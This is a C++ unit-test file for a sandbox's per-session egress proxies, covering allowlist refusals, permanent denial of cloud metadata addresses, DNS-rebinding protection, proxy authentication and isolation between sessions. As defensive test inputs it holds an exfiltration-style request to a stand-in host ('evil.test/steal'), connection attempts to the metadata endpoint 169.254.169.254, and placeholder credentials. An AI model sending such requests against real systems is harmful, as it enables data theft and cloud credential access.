// What a session's proxies let through: the allowlist's refusals (403, a violation, never
// resolved), metadata addresses, a disabled network, loopback and IP literals only when listed
// exactly, credentials, and two sessions that never see each other's decisions.
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/time/time.h"
#include "gtest/gtest.h"
#include "proxy/proxy_test_support.h"
#include "proxy/session_proxies.h"
#include "proxy/session_proxies_fixture.h"
#include "proxy/socks5_parser.h"

namespace ccsandbox::proxy {
namespace {

using testing::ConnectTo;
using testing::Fd;
using testing::HeaderValue;
using testing::ReadExactly;
using testing::ReadUntil;
using testing::SeesClose;
using testing::SendAll;
using testing::SessionProxiesTest;
using testing::Socks5Handshake;
using testing::Socks5Request;
using testing::StatusCode;
using testing::Violations;

TEST_F(SessionProxiesTest, RefusedHostGets403AndAViolationAndIsNeverResolved) {
  auto proxies = Start({Allowed(echo_.port())});
  Fd fd = ConnectTo(proxies->http_port());
  const std::string response = Connect(fd.get(), "evil.test:443");
  EXPECT_EQ(StatusCode(response), 403) << response;
  EXPECT_EQ(HeaderValue(response, "X-Sandbox-Reason"),
            "host evil.test is not in the session's egress allowlist");
  EXPECT_TRUE(SeesClose(fd.get(), absl::Seconds(5)));
  const std::vector<EgressViolation> violations = violations_.list();
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].action, "network-outbound");
  EXPECT_EQ(violations[0].target, "evil.test:443");
  EXPECT_EQ(violations[0].raw, "host evil.test is not in the session's egress allowlist");
  EXPECT_EQ(resolver_->lookups("evil.test"), 0);  // the DNS query itself would leak data
}

TEST_F(SessionProxiesTest, RefusedAbsoluteFormGets403) {
  auto proxies = Start({});
  const std::string response =
      Exchange(proxies->http_port(), "GET http://evil.test/steal?d=1 HTTP/1.1\r\n\r\n");
  EXPECT_EQ(StatusCode(response), 403);
  ASSERT_EQ(violations_.list().size(), 1u);
  EXPECT_EQ(violations_.list()[0].target, "evil.test:80");
}

TEST_F(SessionProxiesTest, AllowedNameOnAnotherPortIsRefused) {
  auto proxies = Start({Allowed(echo_.port())});
  const std::string response =
      Exchange(proxies->http_port(), "CONNECT allowed.test:25 HTTP/1.1\r\n\r\n");
  EXPECT_EQ(StatusCode(response), 403);
  EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("port 25 is not allowed"),
            std::string::npos);
}

TEST_F(SessionProxiesTest, MetadataIsRefusedEvenWhenAWildcardAllowsIt) {
  auto proxies = Start({"*.google.internal", "*.google.internal:8080"});
  for (const char* target : {"metadata.google.internal:80", "METADATA.google.internal.:8080"}) {
    const std::string response =
        Exchange(proxies->http_port(), absl::StrCat("CONNECT ", target, " HTTP/1.1\r\n\r\n"));
    EXPECT_EQ(StatusCode(response), 403) << target;
    EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("permanently denied"),
              std::string::npos);
  }
  // Also through SOCKS5, also as an address.
  Fd fd = ConnectTo(proxies->socks_port());
  ASSERT_EQ(Socks5Handshake(fd.get()), 0);
  EXPECT_EQ(Socks5Request(fd.get(), 1, 1, "169.254.169.254", 80), kSocks5NotAllowed);
  EXPECT_EQ(resolver_->total_lookups(), 0);
  ASSERT_EQ(violations_.list().size(), 3u);
  EXPECT_EQ(violations_.list()[2].target, "169.254.169.254:80");
}

TEST_F(SessionProxiesTest, NetworkDisabledRefusesEverything) {
  auto proxies = Start({Allowed(echo_.port()), "127.0.0.1:" + std::to_string(echo_.port())},
                       /*network_enabled=*/false);
  for (const std::string& target : {Allowed(echo_.port()), std::string("github.com:443"),
                                    absl::StrCat("127.0.0.1:", echo_.port())}) {
    const std::string response =
        Exchange(proxies->http_port(), absl::StrCat("CONNECT ", target, " HTTP/1.1\r\n\r\n"));
    EXPECT_EQ(StatusCode(response), 403) << target;
    EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("networkEnabled=false"),
              std::string::npos);
  }
  Fd fd = ConnectTo(proxies->socks_port());
  ASSERT_EQ(Socks5Handshake(fd.get()), 0);
  EXPECT_EQ(Socks5Request(fd.get(), 1, 3, "allowed.test", echo_.port()), kSocks5NotAllowed);
  EXPECT_EQ(violations_.list().size(), 4u);
  EXPECT_EQ(echo_.accepted(), 0);
}

TEST_F(SessionProxiesTest, NameResolvingToLoopbackNeedsTheExactName) {
  auto proxies = Start({absl::StrCat("*.wild.test:", echo_.port())});
  const std::string response =
      Exchange(proxies->http_port(),
               absl::StrCat("CONNECT a.wild.test:", echo_.port(), " HTTP/1.1\r\n\r\n"));
  EXPECT_EQ(StatusCode(response), 403) << response;
  EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("DNS-rebinding"), std::string::npos);
  ASSERT_EQ(violations_.list().size(), 1u);
  EXPECT_EQ(violations_.list()[0].target, absl::StrCat("a.wild.test:", echo_.port()));
  EXPECT_EQ(echo_.accepted(), 0);

  auto exact = Start({absl::StrCat("a.wild.test:", echo_.port())});
  Fd fd = ConnectTo(exact->http_port());
  EXPECT_EQ(StatusCode(Connect(fd.get(), absl::StrCat("a.wild.test:", echo_.port()))), 200);
}

TEST_F(SessionProxiesTest, IpLiteralsOnlyWhenListedExactly) {
  const std::string literal = absl::StrCat("127.0.0.1:", echo_.port());
  auto unlisted = Start({Allowed(echo_.port())});
  EXPECT_EQ(StatusCode(Exchange(unlisted->http_port(),
                                absl::StrCat("CONNECT ", literal, " HTTP/1.1\r\n\r\n"))),
            403);
  auto listed = Start({literal});
  Fd fd = ConnectTo(listed->http_port());
  EXPECT_EQ(StatusCode(Connect(fd.get(), literal)), 200);
  SendAll(fd.get(), "ip");
  EXPECT_EQ(ReadExactly(fd.get(), 2), "ip");
}

TEST_F(SessionProxiesTest, CredentialsAreIgnoredUnlessTheSessionHasThem) {
  auto open = Start({Allowed(echo_.port())});
  Fd any = ConnectTo(open->socks_port());
  ASSERT_EQ(Socks5Handshake(any.get(), /*with_userpass=*/true, "anyone", "anything"), 0);
  EXPECT_EQ(Socks5Request(any.get(), 1, 3, "allowed.test", echo_.port()), kSocks5Succeeded);

  auto locked = Start({Allowed(echo_.port())}, true, ProxyTimeouts(), nullptr,
                      ProxyCredentials{"sandbox", "s3cret"});
  Fd no_auth = ConnectTo(locked->socks_port());
  EXPECT_EQ(Socks5Handshake(no_auth.get()), 0xff);
  Fd wrong = ConnectTo(locked->socks_port());
  EXPECT_EQ(Socks5Handshake(wrong.get(), true, "sandbox", "guess"), 1);
  Fd right = ConnectTo(locked->socks_port());
  ASSERT_EQ(Socks5Handshake(right.get(), true, "sandbox", "s3cret"), 0);
  EXPECT_EQ(Socks5Request(right.get(), 1, 3, "allowed.test", echo_.port()), kSocks5Succeeded);

  const std::string connect = absl::StrCat("CONNECT ", Allowed(echo_.port()), " HTTP/1.1\r\n");
  std::string response = Exchange(locked->http_port(), connect + "\r\n");
  EXPECT_EQ(StatusCode(response), 407);
  EXPECT_EQ(HeaderValue(response, "Proxy-Authenticate"), "Basic realm=\"sandbox egress\"");
  response = Exchange(locked->http_port(),
                      connect + "Proxy-Authorization: Basic c2FuZGJveDpndWVzcw==\r\n\r\n");
  EXPECT_EQ(StatusCode(response), 407);
  Fd http = ConnectTo(locked->http_port());
  SendAll(http.get(), connect + "Proxy-Authorization: Basic c2FuZGJveDpzM2NyZXQ=\r\n\r\n");
  EXPECT_EQ(StatusCode(ReadUntil(http.get(), "\r\n\r\n")), 200);
}

TEST_F(SessionProxiesTest, TwoSessionsDoNotSeeEachOthersDecisions) {
  Violations a_violations;
  Violations b_violations;
  auto a = Start({Allowed(echo_.port())}, true, ProxyTimeouts(), &a_violations);
  auto b = Start({absl::StrCat("b.test:", echo_.port())}, true, ProxyTimeouts(), &b_violations);
  EXPECT_NE(a->http_port(), b->http_port());
  EXPECT_NE(a->socks_port(), b->socks_port());
  const std::string to_a = absl::StrCat("CONNECT ", Allowed(echo_.port()), " HTTP/1.1\r\n\r\n");
  const std::string to_b = absl::StrCat("CONNECT b.test:", echo_.port(), " HTTP/1.1\r\n\r\n");
  Fd a_ok = ConnectTo(a->http_port());
  SendAll(a_ok.get(), to_a);
  EXPECT_EQ(StatusCode(ReadUntil(a_ok.get(), "\r\n\r\n")), 200);
  Fd b_ok = ConnectTo(b->http_port());
  SendAll(b_ok.get(), to_b);
  EXPECT_EQ(StatusCode(ReadUntil(b_ok.get(), "\r\n\r\n")), 200);
  EXPECT_EQ(StatusCode(Exchange(a->http_port(), to_b)), 403);
  EXPECT_EQ(StatusCode(Exchange(b->http_port(), to_a)), 403);
  ASSERT_EQ(a_violations.list().size(), 1u);
  ASSERT_EQ(b_violations.list().size(), 1u);
  EXPECT_EQ(a_violations.list()[0].target, absl::StrCat("b.test:", echo_.port()));
  EXPECT_EQ(b_violations.list()[0].target, absl::StrCat("allowed.test:", echo_.port()));
  // Stopping one leaves the other's tunnel alone.
  a->Stop();
  EXPECT_TRUE(SeesClose(a_ok.get(), absl::Seconds(5)));
  SendAll(b_ok.get(), "still here");
  EXPECT_EQ(ReadExactly(b_ok.get(), 10), "still here");
}

}  // namespace
}  // namespace ccsandbox::proxy
